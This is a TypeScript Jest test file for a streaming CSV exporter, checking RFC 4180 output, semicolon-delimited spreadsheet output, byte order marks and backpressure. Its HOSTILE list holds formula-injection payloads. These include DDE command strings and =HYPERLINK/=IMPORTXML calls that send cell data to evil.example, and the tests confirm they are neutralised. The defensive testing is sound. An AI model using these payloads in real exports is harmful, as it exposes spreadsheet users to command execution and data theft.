import { Readable } from 'node:stream';
import { buffer, text } from 'node:stream/consumers';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvChunks, csvRecord, type CsvRecords, type CsvRow } from './index.ts';

/** RFC 4180, read strictly: CRLF ends a record, quotes only around whole fields. */
function parse(csv: string): string[][] {
  const records: string[][] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let record: string[] = [];
  while (field.lastIndex < csv.length) {
    const at = field.lastIndex;
    const match = field.exec(csv);
    if (match === null) throw new Error(`Not RFC 4180 at ${at}: ${JSON.stringify(csv.slice(at, at + 40))}`);
    record.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') {
      records.push(record);
      record = [];
    }
  }
  return records;
}

interface Column {
  key: string;
  header: string;
}
/** The CSV of rows that come in batches of `size`. */
function streamed(
  rows: readonly CsvRow[],
  columns: readonly Column[],
  { size = 700, bom = false }: { size?: number; bom?: boolean } = {},
): Readable {
  const keys = columns.map(({ key }) => key);
  async function* batches(): AsyncGenerator<CsvRecords> {
    for (let i = 0; i < rows.length; i += size) {
      const records = rows.slice(i, i + size).map((row) => csvRecord(row, keys));
      yield { length: records.length, bytes: Buffer.concat(records.map(({ bytes }) => bytes)) };
    }
  }
  return Readable.from(csvChunks(batches(), { headers: columns.map(({ header }) => header), bom }));
}
const toCsv = (rows: readonly CsvRow[], columns: readonly Column[]): Promise<string> =>
  text(streamed(rows, columns));

const TEXT = [{ key: 'text', header: 'Text' }];
const cell = async (value: string) => parse(await toCsv([{ text: value }], TEXT))[1]?.[0];

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x!A0',
  '+1+1',
  '-1+1',
  '-2+3+cmd|x!A0',
  '=',
  '+',
  '-',
  '@',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   @SUM(A1)',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u000b=1+1',
  '"=1+1"',
  '"\t=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=1+1";=1+1',
  '-5',
  '+62 812 3456 789',
];

describe('formulas in text', () => {
  it.each(HOSTILE)('S0-SEC-05 S3-RPT-08 %j is shown, not run', async (payload) => {
    const shown = await cell(payload);
    expect(shown?.[0]).toBe("'");
    expect(shown?.replaceAll(/(^|;)'/g, '$1')).toBe(payload);
  });

  it.each([
    ['ok;=1+1', "ok;'=1+1"],
    ['ok; @SUM(A1)', "ok;' @SUM(A1)"],
    ['ok;"=1+1', 'ok;\'"=1+1'],
    ['a;b;-1+1;c', "a;b;'-1+1;c"],
  ])('S3-RPT-08 %j cannot begin a cell where the semicolon separates', async (payload, shown) => {
    expect(await cell(payload)).toBe(shown);
  });

  it.each(['nasi = enak', 'a-b', 'x@example.com', '1-2', "'=1", 'a; b', '', ' teks ', '50%', '日本語'])(
    '%j stays as it is',
    async (plain) => {
      expect(await cell(plain)).toBe(plain);
    },
  );

  it('treats headers alike', async () => {
    expect(await toCsv([], [{ key: 'a', header: '=1+1' }])).toBe("'=1+1\r\n");
  });
});

describe('S3-RPT-08 CSV', () => {
  const columns = [
    { key: 'name', header: 'Nama' },
    { key: 'amount', header: 'Jumlah, total' },
    { key: 'at', header: 'Waktu' },
    { key: 'done', header: 'Selesai' },
  ];

  it('writes RFC 4180, with numbers, instants, booleans and nothing as themselves', async () => {
    expect(
      await toCsv(
        [
          { name: 'Budi "B", dapur\nlantai 2', amount: -5, at: new Date('2026-11-21T01:02:03Z'), done: true },
          { name: null, amount: 1234567.89, done: false },
          { name: 'Ünï 日本', amount: -12345678901234567890n },
        ],
        columns,
      ),
    ).toBe(
      'Nama,"Jumlah, total",Waktu,Selesai\r\n' +
        '"Budi ""B"", dapur\nlantai 2",-5,2026-11-21T01:02:03.000Z,true\r\n' +
        ',1234567.89,,false\r\n' +
        'Ünï 日本,-12345678901234567890,,\r\n',
    );
  });

  it('for spreadsheets separates by semicolons and writes decimals with a comma', async () => {
    const keys = ['text', 'n', 'whole', 'flag'];
    const rows = [
      { text: 'a;b', n: 33.4, whole: -5, flag: true },
      { text: 'a,b', n: 1e-7, whole: 1e21, flag: false },
      { text: 'a,=1+1', n: null, whole: 0, flag: null },
      { text: 'x; @SUM(A1)', n: 0.5, whole: 1, flag: null },
    ];
    const records = async function* (): AsyncGenerator<CsvRecords> {
      for (const row of rows) yield csvRecord(row, keys, 'semicolon');
    };
    const csv = await text(Readable.from(csvChunks(records(), { headers: keys, delimiter: 'semicolon' })));
    expect(csv).toBe(
      'text;n;whole;flag\r\n' +
        '"a;b";33,4;-5;true\r\n' +
        'a,b;1e-7;1e+21;false\r\n' +
        "a,'=1+1;;0;\r\n" +
        '"x;\' @SUM(A1)";0,5;1;\r\n',
    );
  });

  it('reads keys as they are, dots included', async () => {
    expect(await toCsv([{ 'a.b': 1 }], [{ key: 'a.b', header: 'x' }])).toBe('x\r\n1\r\n');
  });

  it('keeps any text in one cell, and loses none of it', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }),
        async (cells) => {
          const keyed = Object.fromEntries(cells.map((value, index) => [`c${index}`, value]));
          const [, record] = parse(
            await toCsv(
              [keyed],
              cells.map((_, index) => ({ key: `c${index}`, header: 'h' })),
            ),
          );
          expect(record?.map((value) => value.replaceAll("'", ''))).toEqual(
            cells.map((value) => value.replaceAll("'", '')),
          );
        },
      ),
    );
  });

  it('streams: the same however the rows come, with a byte order mark on request', async () => {
    const rows = Array.from({ length: 5_000 }, (_, i) => ({
      name: `baris ${i} ${'😀'.repeat(i % 7)}é`,
      amount: i,
      at: null,
      done: i % 2 === 0,
    }));
    const whole = await toCsv(rows, columns);
    expect(parse(whole).at(-1)).toEqual(['baris 4999 😀é', '4999', '', 'false']);
    for (const size of [1, 5_000]) expect(await text(streamed(rows, columns, { size }))).toBe(whole);

    const bytes = await buffer(streamed(rows, columns, { bom: true }));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(whole);
  });

  it('passes on large pieces', async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => ({ text: `baris ${i}` }));
    const chunks: Buffer[] = await Array.fromAsync(streamed(rows, TEXT));
    expect(chunks.length).toBeLessThan(10);
    expect(Buffer.concat(chunks).toString()).toBe(await toCsv(rows, TEXT));
  });

  it('streams the header, and the mark, when there are no rows', async () => {
    expect(await toCsv([], TEXT)).toBe('Text\r\n');
    const bytes = await buffer(streamed([], TEXT, { bom: true }));
    expect(bytes.toString('latin1')).toBe('\xef\xbb\xbfText\r\n');
  });

  it('holds back the source when nobody reads', async () => {
    let produced = 0;
    async function* source(): AsyncGenerator<CsvRecords> {
      for (; produced < 100_000; produced += 1) yield { length: 1, bytes: Buffer.from('x'.repeat(100)) };
    }
    const csv = Readable.from(csvChunks(source(), { headers: ['Text'] }));
    await new Promise((resolve) => csv.once('readable', resolve));
    await new Promise((resolve) => setImmediate(resolve));
    expect(produced).toBeLessThan(2_000);
    csv.destroy();
  });

  it('fails when its rows fail', async () => {
    async function* source(): AsyncGenerator<CsvRecords> {
      yield { length: 1, bytes: Buffer.from('first') };
      throw new Error('the connection broke');
    }
    await expect(text(Readable.from(csvChunks(source(), { headers: ['Text'] })))).rejects.toThrow(
      'the connection broke',
    );
  });
});
